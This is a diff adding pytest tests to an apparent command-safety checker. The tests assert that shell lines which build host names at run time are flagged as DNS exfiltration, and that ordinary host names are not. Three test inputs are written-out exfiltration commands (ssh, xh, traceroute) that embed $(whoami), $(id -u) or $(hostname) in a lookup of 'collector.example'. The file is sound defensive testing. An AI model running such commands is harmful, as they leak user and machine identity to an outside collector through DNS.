@@ -528,3 +528,24 @@ def test_a_container_given_the_host_asks(line: str, project: Path) -> None:
 def test_ordinary_containers_stay_quiet(line: str, project: Path) -> None:
     decision = decide(line, project)
     assert ReasonCode.UNSAFE_PERMISSIONS not in command_reasons(decision), decision.explanation
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ssh user@$(whoami).collector.example",
+        "xh https://$(id -u).collector.example/x",
+        "traceroute $(hostname).collector.example",
+    ],
+)
+def test_a_host_name_built_at_run_time_is_dns_exfiltration_for_every_resolver(
+    line: str, project: Path
+) -> None:
+    decision = decide(line, project)
+    assert ReasonCode.DNS_EXFILTRATION in command_reasons(decision), decision.explanation
+
+
+@pytest.mark.parametrize("line", ["ssh deploy@$SERVER", "ping -c 1 example.com", "ssh git@github.com"])
+def test_ordinary_host_names_are_not_dns_exfiltration(line: str, project: Path) -> None:
+    decision = decide(line, project)
+    assert ReasonCode.DNS_EXFILTRATION not in command_reasons(decision), decision.explanation
